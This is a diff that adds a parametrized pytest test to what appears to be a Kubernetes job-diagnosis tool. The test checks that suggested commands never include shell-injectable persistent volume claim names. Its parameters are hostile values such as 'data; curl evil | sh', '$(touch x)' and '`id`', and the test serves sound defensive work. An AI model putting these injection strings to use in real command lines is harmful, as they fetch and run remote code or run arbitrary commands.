@@ -307,3 +307,12 @@ def test_control_characters_of_messages_are_not_shown() -> None:
     found = explained(evidence(a_job("Starting"), a_pod(ready=False, waiting=hostile)))
     assert shown(found.sentence, Language.ENGLISH).isprintable()
     assert all(str(fact.said).isprintable() for fact in found.evidence)
+
+
+@pytest.mark.parametrize("name", ["data; curl evil | sh", "$(touch x)", "`id`", "a\nb", "'", "a&b", "~/x", "*"])
+def test_the_next_command_has_nothing_that_a_shell_would_run(name: str) -> None:
+    """API servers check the names of objects, but not all names that objects mention, such as those of claims."""
+    mentioned = {"volumes": [{"name": "data", "persistentVolumeClaim": {"claimName": name}}]}
+    pod = a_pod(unscheduled=UNBOUND, spec=mentioned)
+    found = explained(evidence(a_job(), pod, claims={name: PENDING | {"metadata": {"name": name, "uid": "c"}}}))
+    assert found.command == "tide get -e -n ns -- pi"
